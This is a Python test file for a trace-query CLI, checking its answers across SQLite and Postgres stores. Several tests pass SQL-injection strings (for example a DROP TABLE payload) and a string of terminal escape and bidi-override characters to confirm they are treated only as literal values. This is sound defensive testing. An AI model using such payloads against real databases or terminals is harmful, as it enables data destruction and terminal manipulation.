"""The query CLI end to end: a known dataset written through the real sqlite and postgres storage
exporters, the CLI run as a subprocess, answers checked against values computed here from the
dataset, and SQLite and Postgres checked to give identical answers (percentiles and sums too)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import sys
import uuid
from collections import defaultdict
from datetime import datetime, timezone
from pathlib import Path

import pytest

from tests.query_dataset import HOUR_NS, REFUSAL, Dataset, load, make_dataset

ROOT = Path(__file__).resolve().parent.parent
PG_ADMIN = os.environ.get("GC_TEST_POSTGRES", "postgresql+psycopg://postgres@127.0.0.1:5432/test")


# -- fixtures -------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def dataset() -> Dataset:
    return make_dataset()


@pytest.fixture(scope="module")
def sqlite_db(dataset, tmp_path_factory) -> str:
    path = tmp_path_factory.mktemp("query") / "store.db"
    # full-text search on this store, substring scan on the Postgres one: --search must agree
    load("sqlite", {"path": str(path), "full_text_search": True}, dataset)
    import sqlite3

    with contextlib.closing(sqlite3.connect(path)) as conn:
        assert conn.execute("SELECT count(*) FROM sqlite_master WHERE name = 'spans_fts'").fetchone()[0]
    return str(path)


@pytest.fixture(scope="module")
def postgres_db(dataset):
    import sqlalchemy as sa

    admin = sa.create_engine(PG_ADMIN, isolation_level="AUTOCOMMIT",
                             connect_args={"connect_timeout": 3})
    try:
        admin.connect().close()
    except sa.exc.OperationalError as exc:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"Postgres required in CI but unreachable at {PG_ADMIN}: {exc.orig}")
        yield None  # SQLite answers are still checked; test_postgres_is_compared says why not PG
        return
    name = f"gc_test_query_{uuid.uuid4().hex[:12]}"
    with admin.connect() as conn:
        conn.exec_driver_sql(f'CREATE DATABASE "{name}"')
    url = sa.engine.make_url(PG_ADMIN).set(database=name).render_as_string(hide_password=False)
    try:
        load("postgres", {"url": url}, dataset)
        yield url
    finally:
        with admin.connect() as conn:
            conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        admin.dispose()


@pytest.fixture(scope="module")
def dbs(sqlite_db, postgres_db) -> dict[str, str]:
    """The stores to run every command on: SQLite, and Postgres when a server is there."""
    return {"sqlite": sqlite_db, **({"postgres": postgres_db} if postgres_db else {})}


def test_postgres_is_compared(postgres_db):
    if postgres_db is None:
        pytest.skip(f"Postgres not reachable at {PG_ADMIN}: SQLite-only answers were checked")


def cli(*argv: str, env: dict | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    """The CLI as a user runs it: a new process (about a second of imports on a busy machine)."""
    return subprocess.run([sys.executable, "-m", "collector", *argv], cwd=cwd,
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "COLUMNS": "80", "PYTHONPATH": str(ROOT), **(env or {})})


def run(*argv: str) -> subprocess.CompletedProcess:
    """The same entry point (``collector.cli.main``) in this process: argument parsing, exit
    codes, stdout and stderr exactly as the subprocess has them, without the import cost."""
    from collector.cli import main

    out, err = io.StringIO(), io.StringIO()
    old = os.environ.get("COLUMNS")
    os.environ["COLUMNS"] = "80"
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = main(list(argv))
            except SystemExit as exc:
                code = exc.code
    finally:
        if old is None:
            del os.environ["COLUMNS"]
        else:
            os.environ["COLUMNS"] = old
    return subprocess.CompletedProcess(argv, code, out.getvalue(), err.getvalue())


_cache: dict[tuple, object] = {}


def query(dbs: dict[str, str], store: str, *argv: str) -> object:
    """JSON answer of one command on one store (cached: several tests read the same answer)."""
    key = (dbs[store], argv)
    if key not in _cache:
        proc = run(*argv, "--db", dbs[store], "--format", "json")
        assert proc.returncode == 0, proc.stderr
        _cache[key] = json.loads(proc.stdout)
    return _cache[key]


def both(dbs: dict[str, str], *argv: str) -> object:
    """The answer, after asserting that SQLite and Postgres give the identical one."""
    answers = [query(dbs, store, *argv) for store in dbs]
    assert all(_same(answers[0], other) for other in answers[1:]), f"stores disagree on {argv}"
    return answers[0]


def _same(a: object, b: object) -> bool:
    """Equal, except that float SUMs may differ in the last bits (summation order)."""
    if isinstance(a, float) or isinstance(b, float):
        return a == pytest.approx(b, rel=1e-12, abs=1e-15)
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(_same(a[k], b[k]) for k in a)
    if isinstance(a, list) and isinstance(b, list):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
    return a == b


# -- independent expectations ---------------------------------------------------------------------

def nearest_rank(values: list[float], p: float) -> float | None:
    """percentile_disc: the smallest value v with (number of values <= v) / n >= p."""
    ordered = sorted(values)
    for i, v in enumerate(ordered, 1):
        if i / len(ordered) >= p - 1e-12:
            return v
    return None


def model_of(span) -> str:
    return span.genai.response_model or span.genai.request_model


def traces_of(dataset: Dataset) -> dict[str, list]:
    out = defaultdict(list)
    for s in dataset.spans:
        out[s.trace_id.hex()].append(s)
    return out


def iso(ns: int) -> str:
    return datetime.fromtimestamp(ns / 1e9, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


# -- stats ----------------------------------------------------------------------------------------

def test_stats_by_model_matches_dataset_on_both_stores(dbs, dataset):
    result = both(dbs, "stats", "--by", "model")
    groups = {g["model"]: g for g in result["groups"]}
    by_model = defaultdict(list)
    for s in dataset.llm:
        by_model[model_of(s)].append(s)
    assert set(groups) == set(by_model)
    for model, calls in by_model.items():
        g = groups[model]
        assert g["requests"] == len(calls)
        assert g["errors"] == sum(s.status_code == 2 for s in calls)
        assert g["input_tokens"] == sum(s.genai.input_tokens for s in calls)
        assert g["output_tokens"] == sum(s.genai.output_tokens for s in calls)
        assert g["cost_usd"] == pytest.approx(sum(s.genai.cost_usd for s in calls), rel=1e-9)
        durations = [s.duration_ms for s in calls]
        for p in (50, 95, 99):
            assert g[f"latency_p{p}_ms"] == pytest.approx(nearest_rank(durations, p / 100), abs=1e-6)
        ttfts = [s.genai.ttft_ms for s in calls if s.genai.ttft_ms is not None]
        assert g["ttft_p50_ms"] == pytest.approx(nearest_rank(ttfts, 0.5))
        assert g["ttft_p95_ms"] == pytest.approx(nearest_rank(ttfts, 0.95))
        tps = [s.genai.output_tokens_per_second for s in calls]
        assert g["output_tokens_per_second_p50"] == pytest.approx(nearest_rank(tps, 0.5))
    # the busiest model first
    assert [g["requests"] for g in result["groups"]] == sorted(
        (g["requests"] for g in result["groups"]), reverse=True)


def test_stats_cost_per_call_and_top_users(dbs, dataset):
    result = both(dbs, "stats", "--by", "model", "--top", "3")
    spend = defaultdict(float)
    for s in dataset.llm:
        spend[s.genai.user_id] += s.genai.cost_usd
    top = sorted(spend.items(), key=lambda kv: -kv[1])[:3]
    assert [u["user_id"] for u in result["top_users"]] == [u for u, _ in top]
    assert [u["cost_usd"] for u in result["top_users"]] == pytest.approx([c for _, c in top])
    for row in result["cost_per_call"]:
        costs = [s.genai.cost_usd for s in dataset.llm if model_of(s) == row["model"]]
        assert row["cost_per_call_p95"] == nearest_rank(costs, 0.95)
        assert row["cost_per_call_p50"] == nearest_rank(costs, 0.5)
        assert row["cost_per_call_avg"] == pytest.approx(sum(costs) / len(costs))


@pytest.mark.parametrize("by", ["model,day", "user,hour", "provider,service", "session"])
def test_stats_groupings_partition_the_calls(dbs, dataset, by):
    result = both(dbs, "stats", "--by", by)
    keys = by.split(",")
    assert sum(g["requests"] for g in result["groups"]) == len(dataset.llm)
    expected = defaultdict(int)
    for s in dataset.llm:
        start = datetime.fromtimestamp(s.start_time_unix_nano / 1e9, tz=timezone.utc)
        value = {"model": model_of(s), "day": start.strftime("%Y-%m-%d"),
                 "hour": start.strftime("%Y-%m-%dT%H:00Z"), "user": s.genai.user_id,
                 "provider": s.genai.provider, "service": s.service_name,
                 "session": s.genai.session_id}
        expected[tuple(value[k] for k in keys)] += 1
    assert {tuple(g[k] for k in keys): g["requests"] for g in result["groups"]} == expected


def _feature(span) -> str:
    return span.attributes["app.feature"]


def _tenant(span) -> str:
    return span.resource.attributes["tenant.id"]


@pytest.mark.parametrize("by, keys", [
    ("attr:app.feature", [_feature]),                 # a span attribute
    ("attr:tenant.id,model", [_tenant, model_of]),    # a resource attribute, and a column
])
def test_stats_by_any_span_or_resource_attribute(dbs, dataset, by, keys):
    result = both(dbs, "stats", "--by", by)
    names = by.split(",")
    assert result["by"] == names
    expected = defaultdict(lambda: [0, 0.0])
    for s in dataset.llm:
        row = expected[tuple(k(s) for k in keys)]
        row[0] += 1
        row[1] += s.genai.cost_usd
    got = {tuple(g[n] for n in names): [g["requests"], g["cost_usd"]] for g in result["groups"]}
    assert got.keys() == expected.keys() and len(got) > 1
    for key, (calls, cost) in expected.items():
        assert got[key][0] == calls and got[key][1] == pytest.approx(cost)


def test_attr_filter_on_spans_traces_and_stats(dbs, dataset):
    search = [s for s in dataset.llm if _feature(s) == "search" and _tenant(s) == "acme"]
    result = both(dbs, "stats", "--by", "model", "--attr", "app.feature=search", "--attr", "tenant.id=acme")
    assert sum(g["requests"] for g in result["groups"]) == len(search) > 0
    traces = both(dbs, "traces", "--attr", "tenant.id=globex", "--limit", "1000")
    assert {t["trace_id"] for t in traces} == {s.trace_id.hex() for s in dataset.spans if _tenant(s) == "globex"}
    assert both(dbs, "traces", "--attr", "app.feature=nope' OR '1'='1") == []


def test_stats_time_window_and_filters(dbs, dataset):
    since, until = dataset.base_ns + 20 * HOUR_NS, dataset.base_ns + 70 * HOUR_NS
    result = both(dbs, "stats", "--since", iso(since), "--until", iso(until), "--provider",
                  "openai", "--status", "error")
    expected = [s for s in dataset.llm if since <= s.start_time_unix_nano < until
                and s.genai.provider == "openai" and s.status_code == 2]
    assert sum(g["requests"] for g in result["groups"]) == len(expected) > 0
    assert all(g["error_rate"] == 1.0 for g in result["groups"])


# -- traces ---------------------------------------------------------------------------------------

def _trace_rows(dataset: Dataset):
    rows = []
    for tid, group in traces_of(dataset).items():
        rows.append({
            "trace_id": tid, "start": min(s.start_time_unix_nano for s in group),
            "end": max(s.end_time_unix_nano for s in group),
            "cost": sum(s.genai.cost_usd or 0 for s in group if s.genai),
            "tokens": sum((s.genai.input_tokens or 0) + (s.genai.output_tokens or 0)
                          for s in group if s.genai),
            "error": any(s.status_code == 2 for s in group), "spans": group})
    return rows


def _ids(result) -> list[str]:
    return [t["trace_id"] for t in result]


def test_traces_newest_first_with_paging(dbs, dataset):
    rows = sorted(_trace_rows(dataset), key=lambda r: -r["start"])
    first = both(dbs, "traces", "--limit", "5")
    second = both(dbs, "traces", "--limit", "5", "--offset", "5")
    assert _ids(first) + _ids(second) == [r["trace_id"] for r in rows[:10]]
    assert first[0]["span_count"] == len(rows[0]["spans"])
    assert first[0]["duration_ms"] == pytest.approx((rows[0]["end"] - rows[0]["start"]) / 1e6)


@pytest.mark.parametrize("sort,key", [("cost", "cost"), ("tokens", "tokens"),
                                      ("latency", lambda r: r["end"] - r["start"])])
def test_traces_sorted(dbs, dataset, sort, key):
    keyf = key if callable(key) else (lambda r: r[key])
    rows = sorted(_trace_rows(dataset), key=keyf, reverse=True)
    assert _ids(both(dbs, "traces", "--sort", sort, "--limit", "6")) == [r["trace_id"] for r in rows[:6]]


def _has_span(row, predicate) -> bool:
    return any(s.genai is not None and predicate(s) for s in row["spans"])


TRACE_FILTERS = {
    "model-request-name": (["--model", "gpt-4o"],
                           lambda r: _has_span(r, lambda s: s.genai.request_model == "gpt-4o")),
    "error": (["--status", "error"], lambda r: r["error"]),
    "ok": (["--status", "ok"], lambda r: not r["error"]),
    "min-cost": (["--min-cost", "0.02"], lambda r: r["cost"] >= 0.02),
    "min-latency": (["--min-latency-ms", "9000"], lambda r: (r["end"] - r["start"]) / 1e6 >= 9000),
    "user+service": (["--user", "u1", "--service", "chatbot"],
                     lambda r: _has_span(r, lambda s: s.genai.user_id == "u1")
                     and r["spans"][0].service_name == "chatbot"),
    "session": (["--session", "s2"], lambda r: _has_span(r, lambda s: s.genai.session_id == "s2")),
    "search": (["--search", "CAN'T HELP"],
               lambda r: _has_span(r, lambda s: REFUSAL in json.dumps(s.genai.output_messages))),
}


@pytest.mark.parametrize("name", sorted(TRACE_FILTERS))
def test_traces_filters(dbs, dataset, name):
    argv, predicate = TRACE_FILTERS[name]
    expected = [r["trace_id"] for r in sorted(_trace_rows(dataset), key=lambda r: -r["start"])
                if predicate(r)]
    assert expected, "the dataset must exercise the filter"
    assert _ids(both(dbs, "traces", *argv, "--limit", "100")) == expected


def test_session_by_unique_prefix_as_the_table_cuts_it(dbs):
    full = both(dbs, "session", "s1")
    assert both(dbs, "session", "s1\u2026") == full  # copied from a table cell, ellipsis and all
    for store in dbs:  # "s" is the prefix of s0, s1 and s2
        proc = run("session", "s", "--db", dbs[store])
        assert proc.returncode == 2 and "ambiguous" in proc.stderr, proc.stderr
        assert run("session", "nope", "--db", dbs[store]).returncode == 1


def test_search_reads_what_was_said_not_the_json_around_it(dbs, dataset):
    """JSON keys of the message format are not text anyone said (they matched every call), and
    case folds beyond ASCII, on the SQLite store (FTS5 index) and the Postgres one (scan)."""
    for key in ("parts", "content", "type"):
        assert both(dbs, "traces", "--search", key, "--limit", "100") == [], key
    with_unicode = both(dbs, "traces", "--search", "ÜNÏCODE", "--limit", "100")
    assert len(with_unicode) == len(traces_of(dataset))  # every chat call's question has it


@pytest.mark.parametrize("argv", [
    ["--search", "100% _off_ ?"], ["--user", "o'brien?%"], ["--model", "x'); DROP TABLE spans; --"],
    ["--search", "%"], ["--session", "?"],
])
def test_values_with_sql_and_placeholder_characters_are_only_values(dbs, argv):
    """Quotes, ``?`` (the fragments' placeholder) and ``%`` (psycopg's) in a filter value match
    literally, on both stores: nothing here matches, and nothing breaks or is dropped."""
    assert both(dbs, "traces", *argv) == []
    assert both(dbs, "stats", *argv)["groups"] == []
    assert len(both(dbs, "traces", "--limit", "100")) > 0  # the spans table is still there


@pytest.mark.parametrize("command", ["traces", "sessions", "stats", "eval-candidates"])
def test_far_off_times_and_huge_thresholds_mean_no_bound(dbs, dataset, command):
    """Dates and durations beyond the stores' 64-bit nanoseconds are clamped to them, not a
    driver overflow (SQLite raised OverflowError on them)."""
    page = [] if command == "stats" else ["--limit", "100"]
    everything = both(dbs, command, "--since", "0001-01-01", "--until", "9999-12-31", *page)
    assert everything == both(dbs, command, "--since", "99999999d", *page)
    assert everything == both(dbs, command, *page)
    slow = both(dbs, command, "--min-latency-ms", "1e30", *page)
    assert (slow["groups"] if command == "stats" else
            slow["candidates"] if command == "eval-candidates" else slow) == []


@pytest.mark.parametrize("store_name", ["sqlite", "postgres"])
def test_ctrl_c_interrupts_the_concurrent_stats_queries(dbs, store_name):
    """Ctrl-C while stats waits for its concurrent queries stops them, instead of waiting for
    them to finish; a failing query stops its siblings the same way."""
    import signal
    import threading
    import time

    from collector.query.stats import _concurrently
    from collector.query.store import open_store
    from exporters.storage.sqltext import Sql

    endless = Sql("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
                  "SELECT count(*) FROM (SELECT i FROM n LIMIT 50000000000) AS t")

    def slow(conn):
        return conn.scalar(endless)

    def failing(conn):
        time.sleep(0.3)
        raise ValueError("a job failed")

    store = open_store(dbs[store_name], "unused")
    try:
        started = time.monotonic()
        with pytest.raises(ValueError, match="a job failed"):
            _concurrently(store, [(slow, ()), (failing, ())])
        assert time.monotonic() - started < 10
        started = time.monotonic()
        threading.Timer(0.3, os.kill, (os.getpid(), signal.SIGINT)).start()  # Ctrl-C
        with pytest.raises(KeyboardInterrupt):
            _concurrently(store, [(slow, ()), (slow, ())])
        assert time.monotonic() - started < 10
    finally:
        store.close()


def test_sql_fragments_count_their_placeholders():
    from exporters.storage.sqltext import Sql, all_of, any_of

    with pytest.raises(ValueError, match="2 placeholders, 1 parameters"):
        Sql("a = ? AND b = ?", 1)
    clause = all_of([Sql("a = ?", 1), any_of([Sql("b = ?", 2), Sql("c LIKE ?", "%x")])])
    assert clause.text == "((a = ?) AND (((b = ?) OR (c LIKE ?))))" and clause.params == (1, 2, "%x")
    assert Sql.compose("SELECT 1 WHERE {} AND d = '%'", clause).render("postgresql").count("%s") == 3


def test_traces_since_until(dbs, dataset):
    since, until = dataset.base_ns + 30 * HOUR_NS, dataset.base_ns + 60 * HOUR_NS
    expected = [r["trace_id"] for r in sorted(_trace_rows(dataset), key=lambda r: -r["start"])
                if since <= r["start"] < until]
    assert _ids(both(dbs, "traces", "--since", iso(since), "--until", iso(until))) == expected
    assert len(both(dbs, "traces", "--since", "30d", "--limit", "100")) == len(traces_of(dataset))


# -- one trace, sessions --------------------------------------------------------------------------

def test_trace_tree_and_transcript(dbs, dataset):
    tid, group = next((t, g) for t, g in traces_of(dataset).items() if len(g) == 6)
    chats = sum(1 for s in group if s.name.startswith("chat"))
    detail = both(dbs, "trace", tid)
    assert [s["span_id"] for s in detail["spans"]] == [
        s.span_id.hex() for s in sorted(group, key=lambda s: s.start_time_unix_nano)]
    root = group[0].span_id.hex()
    assert all(s["parent_span_id"] == root for s in detail["spans"][1:])
    chat = detail["spans"][1]
    assert chat["input_messages"][0]["parts"][0]["content"].startswith("Question")
    for store in dbs:
        proc = cli("trace", tid.upper(), "--db", dbs[store])
        assert proc.returncode == 0, proc.stderr
        lines = proc.stdout.splitlines()
        assert max(len(line) for line in lines) <= 80
        assert any(line.startswith("agent.run") and "█" in line for line in lines)
        assert sum("├─ chat" in line or "└─ chat" in line for line in lines) == chats
        assert any(line.startswith("system: You are a helpful assistant.") for line in lines)
        assert any(line.startswith("user: Question") and "ünïcode" in line for line in lines)
        assert any(line.startswith("assistant: ") for line in lines)


def test_trace_not_found_and_bad_id(dbs):
    proc = run("trace", "0" * 32, "--db", dbs["sqlite"])
    assert proc.returncode == 1 and "not found" in proc.stderr
    proc = run("trace", "xyz", "--db", dbs["sqlite"])
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1


def test_trace_by_the_prefix_the_listing_shows(dbs, dataset):
    tid = sorted(traces_of(dataset))[-1]
    for store in dbs:
        proc = run("trace", tid[:8], "--format", "json", "--db", dbs[store])
        assert proc.returncode == 0, proc.stderr
        assert json.loads(proc.stdout)["trace_id"] == tid
    proc = run("trace", "ABCDEF", "--db", dbs["sqlite"])  # the dataset's two traces abcdef...
    assert proc.returncode == 2 and "ambiguous" in proc.stderr


def test_sessions_and_session_turns(dbs, dataset):
    listing = both(dbs, "sessions", "--sort", "turns")
    llm_by_session = defaultdict(list)
    for s in dataset.llm:
        if s.genai.session_id:
            llm_by_session[s.genai.session_id].append(s)
    assert {r["session_id"]: r["turns"] for r in listing} == {k: len(v) for k, v in llm_by_session.items()}
    assert [r["turns"] for r in listing] == sorted((r["turns"] for r in listing), reverse=True)
    for sid, calls in llm_by_session.items():
        row = next(r for r in listing if r["session_id"] == sid)
        assert row["cost_usd"] == pytest.approx(sum(s.genai.cost_usd for s in calls))
    detail = both(dbs, "session", "s1")
    calls = sorted(llm_by_session["s1"], key=lambda s: s.start_time_unix_nano)
    assert [t["span_id"] for t in detail["turns"]] == [s.span_id.hex() for s in calls]
    proc = run("session", "s1", "--db", dbs.get("postgres", dbs["sqlite"]))
    assert proc.returncode == 0 and "turn 1 " in proc.stdout
    assert max(len(line) for line in proc.stdout.splitlines()) <= 80


# -- export ---------------------------------------------------------------------------------------

DOCUMENTED_FIELDS = [
    "trace_id", "span_id", "parent_span_id", "name", "start_time", "duration_ms", "status",
    "service", "provider", "operation", "request_model", "response_model", "input_tokens",
    "output_tokens", "cost_usd", "ttft_ms", "output_tokens_per_second", "session_id", "user_id",
    "input_messages", "output_messages",
]


def test_export_jsonl_is_one_documented_span_per_line(dbs, dataset, tmp_path):
    expected = sorted((s for s in dataset.llm if s.genai.user_id == "u2"),
                      key=lambda s: (s.start_time_unix_nano, s.span_id.hex()))
    outputs = []
    for store in dbs:
        out = tmp_path / f"{store}.jsonl"
        proc = cli("export", "--format", "jsonl", "--user", "u2", "-o", str(out), "--db", dbs[store])
        assert proc.returncode == 0, proc.stderr
        outputs.append([json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()])
    assert all(_same(outputs[0], other) for other in outputs[1:])
    records = outputs[0]
    assert [r["span_id"] for r in records] == [s.span_id.hex() for s in expected]
    for record, span in zip(records, expected):
        assert all(field in record for field in DOCUMENTED_FIELDS)
        assert re.fullmatch(r"[0-9a-f]{32}", record["trace_id"])
        assert record["start_time"] == datetime.fromtimestamp(
            span.start_time_unix_nano // 1000 / 1e6, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        assert record["input_tokens"] == span.genai.input_tokens
        assert record["status"] == ("error" if span.status_code == 2 else "ok")
    all_spans = run("export", "--all-spans", "--db", dbs["sqlite"])
    assert len(all_spans.stdout.splitlines()) == len(dataset.spans)


def test_export_csv_columns(dbs, dataset):
    proc = run("export", "--format", "csv", "--model", "claude-sonnet-4", "--db", dbs.get("postgres", dbs["sqlite"]))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    required = ["inference_id", "timestamp", "model_name", "prompt_preview", "response_preview",
                "input_tokens", "output_tokens", "response_time_ms", "cost", "is_success"]
    assert list(rows[0])[:len(required)] == required
    expected = [s for s in dataset.llm if s.genai.request_model == "claude-sonnet-4"]
    assert len(rows) == len(expected)
    by_id = {s.span_id.hex(): s for s in expected}
    for row in rows:
        span = by_id[row["inference_id"]]
        assert row["is_success"] == ("false" if span.status_code == 2 else "true")
        assert row["prompt_preview"].startswith("Question")
        assert int(row["output_tokens"]) == span.genai.output_tokens


# -- eval candidates ------------------------------------------------------------------------------

def test_eval_candidates_find_errors_refusals_and_bad_feedback(dbs, dataset):
    result = both(dbs, "eval-candidates", "--limit", "1000")
    reasons = {c["span_id"]: set(c["reasons"]) for c in result["candidates"]}
    for s in dataset.llm:
        sid = s.span_id.hex()
        if s.status_code == 2:
            assert "error" in reasons[sid]
        if s.genai.output_messages and REFUSAL in json.dumps(s.genai.output_messages):
            assert "refusal" in reasons[sid]
        if s.attributes.get("feedback") == "thumbs_down":
            assert "negative_feedback" in reasons[sid]
    durations = [s.duration_ms for s in dataset.llm]
    assert result["thresholds"]["slow_ms"] == pytest.approx(nearest_rank(durations, 0.95))
    slow = {s.span_id.hex() for s in dataset.llm if s.duration_ms >= result["thresholds"]["slow_ms"]}
    assert slow == {sid for sid, r in reasons.items() if "slow" in r}
    ranked = [len(c["reasons"]) for c in result["candidates"]]
    assert ranked == sorted(ranked, reverse=True)
    assert len(both(dbs, "eval-candidates", "--limit", "3")["candidates"]) == 3


# -- tables and bad input -------------------------------------------------------------------------

@pytest.mark.parametrize("argv", [["traces"], ["sessions"], ["stats", "--by", "model,day"],
                                  ["stats", "--by", "user,hour,service"], ["eval-candidates"]])
def test_tables_fit_80_columns(dbs, argv):
    proc = run(*argv, "--db", dbs["sqlite"])
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert len(lines) > 2 and max(len(line) for line in lines) <= 80


def test_csv_listing(dbs, dataset):
    proc = run("traces", "--format", "csv", "--limit", "100", "--db", dbs["sqlite"])
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert len(rows) == len(traces_of(dataset))
    assert {"trace_id", "start_time", "duration_ms", "cost_usd", "models"} <= set(rows[0])


@pytest.mark.parametrize("argv,message", [
    (["stats", "--since", "yesterdayish"], "--since"),
    (["stats", "--by", "model,colour"], "colour"),
    (["stats", "--by", "attr:"], "attribute key"),
    (["traces", "--attr", "novalue"], "KEY=VALUE"),
    (["traces", "--limit", "0"], "--limit"),
    (["traces", "--min-cost", "-1"], "--min-cost"),
    (["traces", "--min-latency-ms", "nan"], "--min-latency-ms"),
    (["traces", "--since", "2026-01-02", "--until", "2026-01-01"], "earlier"),
    (["traces", "--db", "postgresql://::bad"], "malformed"),
    (["traces", "--db", "postgresql+psycopg://u:s3cretpw@h:99999/db"], "u:***@h:99999"),  # no password
    (["traces", "--db", "postgresql+psycopg://u:s3cretpw@127.0.0.1:1/db"], "u:***@127.0.0.1:1"),
    (["traces", "--db", "mysql://x@y/z"], "unsupported"),
    (["traces", "--db", "/nonexistent/store.db"], "not found"),
    (["traces", "--db", "postgresql+psycopg://postgres@127.0.0.1:1/x"], "cannot open"),
    (["traces", "--config", "/nonexistent/otel-config.yaml"], "not found"),
    (["traces"], "otel-config.yaml not found"),
])
def test_bad_input_is_one_line_and_exit_2(argv, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # no otel-config.yaml here
    proc = run(*argv)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and message in proc.stderr
    assert proc.stdout == "" and "s3cretpw" not in proc.stderr


HOSTILE = "u\x1b[2J\x1b]0;pwned\x07\r\nz\u202e"
"""A user id / model / prompt an OTLP client could send: clear screen, set the window title, bell,
carriage return, newline, a bidi override."""


def test_control_characters_in_span_data_never_reach_the_terminal(tmp_path):
    dataset = make_dataset(n_traces=2)
    for span in dataset.spans:
        span.name = f"step{HOSTILE}"
        if span.genai is not None:
            span.genai.user_id = span.genai.session_id = HOSTILE
            if span.genai.model:
                span.genai.response_model = f"gpt{HOSTILE}"
                span.genai.input_messages = [{"role": "user", "parts": [{"type": "text", "content": HOSTILE}]}]
    path = tmp_path / "hostile.db"
    load("sqlite", {"path": str(path)}, dataset)
    trace_id = dataset.spans[0].trace_id.hex()
    for argv in (["traces"], ["sessions"], ["stats", "--by", "model,user,session"], ["eval-candidates"],
                 ["trace", trace_id], ["session", HOSTILE]):
        proc = cli(*argv, "--db", str(path))
        assert proc.returncode == 0, (argv, proc.stderr)
        assert not set("\x1b\x07\r\u202e") & set(proc.stdout), argv
        assert "\\x1" in proc.stdout, argv  # shown, escaped (and maybe cut with an ellipsis)
        if argv[0] not in ("trace", "session"):  # one line per row: no newline got through
            assert max(len(line) for line in proc.stdout.splitlines()) <= 80, argv
    # JSON keeps the exact value
    assert json.loads(cli("sessions", "--db", str(path), "--format", "json").stdout)[0]["user_id"] == HOSTILE


def test_export_to_an_unwritable_path_is_exit_2(dbs):
    proc = run("export", "-o", "/nonexistent/dir/out.jsonl", "--db", dbs["sqlite"])
    assert proc.returncode == 2 and "cannot write" in proc.stderr


def test_not_a_store_is_exit_2(tmp_path):
    """An existing SQLite file of another app is refused, and not written to."""
    import sqlite3

    path = tmp_path / "other.db"
    sqlite3.connect(path).execute("create table t (x)").connection.commit()
    proc = run("traces", "--db", str(path))
    assert proc.returncode == 2 and "not a genai-collector store" in proc.stderr


CONFIG = """
receivers:
  otlp:
    protocols:
      http:
        endpoint: 127.0.0.1:0
exporters:
  debug: {}
  sqlite/main:
    path: ${env:GC_QUERY_DB}
service:
  pipelines:
    traces:
      receivers: [otlp]
      exporters: [debug, sqlite/main]
"""


def test_default_db_comes_from_the_config(sqlite_db, tmp_path, dataset):
    (tmp_path / "otel-config.yaml").write_text(CONFIG, encoding="utf-8")
    proc = cli("traces", "--limit", "100", "--format", "json", cwd=tmp_path,
               env={"GC_QUERY_DB": sqlite_db})
    assert proc.returncode == 0, proc.stderr
    assert len(json.loads(proc.stdout)) == len(traces_of(dataset))


def test_queries_read_only_the_exporters_of_the_config(sqlite_db, tmp_path, dataset):
    """A receiver being fixed (here an unknown key) does not stop queries: they need only the
    storage exporter, and `validate` is where the rest of the config gets checked."""
    broken = CONFIG.replace("        endpoint: 127.0.0.1:0", "        endpoint: 127.0.0.1:0\n        endpiont: x")
    (tmp_path / "otel-config.yaml").write_text(broken, encoding="utf-8")
    assert cli("validate", cwd=tmp_path, env={"GC_QUERY_DB": sqlite_db}).returncode == 1
    proc = cli("traces", "--limit", "100", "--format", "json", cwd=tmp_path, env={"GC_QUERY_DB": sqlite_db})
    assert proc.returncode == 0, proc.stderr
    assert len(json.loads(proc.stdout)) == len(traces_of(dataset))


def test_config_without_storage_or_invalid_is_exit_2(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "otel-config.yaml").write_text(
        CONFIG.replace("  sqlite/main:\n    path: ${env:GC_QUERY_DB}\n", "")
              .replace("[debug, sqlite/main]", "[debug]"), encoding="utf-8")
    proc = run("stats")
    assert proc.returncode == 2 and "no sqlite or postgres exporter" in proc.stderr
    (tmp_path / "bad.yaml").write_text("exporters:\n  sqlite:\n    paht: x.db\n", encoding="utf-8")
    proc = run("stats", "--config", "bad.yaml")
    assert proc.returncode == 2 and "paht" in proc.stderr and len(proc.stderr.splitlines()) == 1


def test_subprocess_answers_like_the_library_and_bad_input_exits_2(dbs):
    """The real process entry point: same JSON as in-process, one stderr line + exit 2 on bad input."""
    for store in dbs:
        proc = cli("stats", "--by", "model,day", "--format", "json", "--db", dbs[store])
        assert proc.returncode == 0, proc.stderr
        assert _same(json.loads(proc.stdout), query(dbs, store, "stats", "--by", "model,day"))
    proc = cli("traces", "--since", "yesterdayish", "--db", dbs["sqlite"])
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1
    assert "yesterdayish" in proc.stderr and proc.stdout == ""


# -- the percentile definition itself -------------------------------------------------------------

FRACTIONS = (0.0, 0.01, 0.07, 0.1, 0.25, 0.29, 0.5, 0.57, 0.58, 0.75, 0.9, 0.95, 0.99, 1.0)
"""Including fractions whose product with n is inexact in binary (0.29 * 100 = 28.999...)."""


def test_sqlite_percentiles_are_postgres_percentile_disc(postgres_db):
    """The percentiles the SQLite store's ``stats`` computes in Python are exactly what
    percentile_disc returns on Postgres, for group sizes 1..120, ties, negative values, NULLs
    and the awkward fractions."""
    if postgres_db is None:
        pytest.skip(f"Postgres not reachable at {PG_ADMIN}")
    import random

    import sqlalchemy as sa

    from collector.query.percentile import nearest_rank as rank_of
    from collector.query.stats import sorted_by_key

    rng = random.Random(5)
